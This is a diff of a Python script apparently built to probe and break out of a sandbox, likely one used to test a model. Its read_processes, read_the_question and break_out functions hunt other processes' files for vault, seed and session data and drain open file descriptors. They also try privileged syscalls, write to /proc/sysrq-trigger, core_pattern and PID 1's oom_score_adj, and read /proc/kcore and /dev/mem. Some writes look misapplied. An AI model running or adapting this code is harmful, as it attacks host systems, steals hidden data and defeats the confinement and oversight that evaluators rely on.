@@ -108,7 +108,7 @@ def read_processes(values):
                 text = file.read()
                 if re.search(rb"seed|vault|label|/home/|session", text):
                     others.append((number, name))
-        for name in ("root/home", "root/vault", "cwd/../home"):
+        for name in ("root/vault", "root/workspace", "cwd/../vault"):
             with contextlib.suppress(OSError):
                 others += os.listdir(f"/proc/{number}/{name}")
         if int(number) not in (os.getpid(), os.getppid()):
@@ -139,6 +139,8 @@ def read_the_question(values):
     more = 0
     for descriptor in range(64):
         with contextlib.suppress(OSError):
+            if stat.S_ISREG(os.fstat(descriptor).st_mode):
+                continue  # the model's own file
             os.set_blocking(descriptor, False)
             more += len(os.read(descriptor, 1 << 20) or b"")
     print("MORE", more, flush=True)
@@ -242,8 +244,8 @@ def break_out(values):
     tried("userfaultfd", 0)
     tried("kexec_load", 0, 0, None, 0)
     for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/1/oom_score_adj"):
-        with contextlib.suppress(OSError), open(path, "w") as file:
-            file.write("-1000")
+        with contextlib.suppress(OSError), open(path, "wb", 0) as file:
+            file.write(b"-1000")
             gained.append(path)
     for path in ("/proc/kcore", "/proc/kallsyms", "/proc/timer_list", "/sys/firmware", "/dev/mem"):
         with contextlib.suppress(OSError), open(path, "rb") as file:
